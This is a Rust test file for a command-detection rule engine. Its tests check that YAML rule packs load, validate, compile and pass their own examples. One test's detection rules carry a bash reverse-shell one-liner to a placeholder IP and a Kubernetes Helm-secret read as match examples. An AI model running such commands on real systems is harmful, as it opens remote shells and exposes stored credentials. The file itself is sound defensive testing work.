//! The rule packs: every bundled rule's own examples pass, every file in `rules/` is bundled,
//! and malformed packs are rejected with messages naming the file and the rule.

use sightline::analyze::rules::{BUNDLED_PACKS, RuleSet};

#[test]
fn every_bundled_rule_passes_its_examples() {
    let rules = RuleSet::bundled().unwrap_or_else(|error| panic!("{error}"));
    let failures = rules.check_examples();
    assert!(failures.is_empty(), "{} example failures:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn every_rule_file_is_bundled() {
    let directory = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("rules");
    for entry in std::fs::read_dir(directory).unwrap() {
        let name = format!("rules/{}", entry.unwrap().file_name().to_string_lossy());
        if name.ends_with(".yaml") {
            assert!(BUNDLED_PACKS.iter().any(|(file, _)| *file == name), "{name} is not in BUNDLED_PACKS");
        }
    }
}

const GOOD_RULE: &str = r#"
rules:
  - id: test.good
    title: Read a file
    techniques: [T1005]
    risk: LOW
    match:
      program: [cat]
    examples:
      match: ["cat x"]
      no_match: ["ls"]
"#;

#[test]
fn a_broken_example_is_reported() {
    let mut rules = RuleSet::default();
    rules.add_yaml("mine.yaml", &GOOD_RULE.replace(r#"no_match: ["ls"]"#, r#"no_match: ["cat y"]"#)).unwrap();
    let failures = rules.check_examples();
    assert_eq!(failures.len(), 1, "{failures:?}");
    assert!(failures[0].contains("mine.yaml") && failures[0].contains("test.good") && failures[0].contains("cat y"));
}

#[test]
fn invalid_packs_name_the_file_and_rule() {
    let cases = [
        (GOOD_RULE.replace("T1005", "T9999"), "unknown ATT&CK technique T9999"),
        (GOOD_RULE.replace("program: [cat]", "program: [cat]\n      argument: ['(']"), "invalid pattern"),
        (GOOD_RULE.replace("risk: LOW", "risk: LOW\n    colour: red"), "unknown field `colour`"),
        (GOOD_RULE.replace("    match:\n      program: [cat]\n", ""), "no matcher"),
        (GOOD_RULE.replace("risk: LOW", "risk: SEVERE"), "SEVERE"),
    ];
    for (text, expected) in cases {
        let mut rules = RuleSet::default();
        let error = rules.add_yaml("mine.yaml", &text).unwrap_err().to_string();
        assert!(error.contains("mine.yaml"), "{error}");
        assert!(error.contains(expected), "{error} should mention {expected}");
    }
    let mut rules = RuleSet::default();
    rules.add_yaml("a.yaml", GOOD_RULE).unwrap();
    let error = rules.add_yaml("b.yaml", GOOD_RULE).unwrap_err().to_string();
    assert!(error.contains("b.yaml: rule test.good: duplicate rule id"), "{error}");
}

#[test]
fn every_bundled_pattern_compiles_and_a_too_large_one_is_named() {
    RuleSet::bundled().unwrap().compile_all().unwrap();
    // Valid syntax loads; the compiled-size limit is found when the patterns are compiled.
    let mut rules = RuleSet::default();
    rules
        .add_yaml(
            "big.yaml",
            &GOOD_RULE.replace("program: [cat]", "program: [cat]\n      argument: ['\\w{5000}\\w{5000}']"),
        )
        .unwrap();
    let error = rules.compile_all().unwrap_err().to_string();
    assert!(error.contains("big.yaml: rule test.good: invalid pattern") && error.contains("too large"), "{error}");
}

#[test]
fn redirects_to_files_and_kubernetes_names_can_be_matched() {
    let mut rules = RuleSet::default();
    rules
        .add_yaml(
            "mine.yaml",
            r#"
rules:
  - id: test.devtcp
    title: Redirected output to a TCP socket
    techniques: [T1095]
    risk: HIGH
    match: { redirect: ['^/dev/tcp/'] }
    examples:
      match: ["bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "echo x > /dev/tcp/203.0.113.9/80"]
      no_match: ["make 2>&1", "cmd >&-"]
  - id: test.helm-secret
    title: Read a Helm release secret
    techniques: [T1552.007]
    risk: MEDIUM
    kube: { verb: [get], resource: [secrets], name: ['^sh\.helm\.release\.'] }
    examples:
      match: ["GET /api/v1/namespaces/shop/secrets/sh.helm.release.v1.shop.v42"]
      no_match: ["GET /api/v1/namespaces/shop/secrets/db-password"]
"#,
        )
        .unwrap();
    let failures = rules.check_examples();
    assert!(failures.is_empty(), "{failures:?}");
}

#[test]
fn v18_technique_ids_are_mapped_to_v19() {
    let mut rules = RuleSet::default();
    rules.add_yaml("mine.yaml", &GOOD_RULE.replace("T1005", "T1562.001")).unwrap();
    assert_eq!(rules.rules[0].techniques, vec!["T1685"]);
}
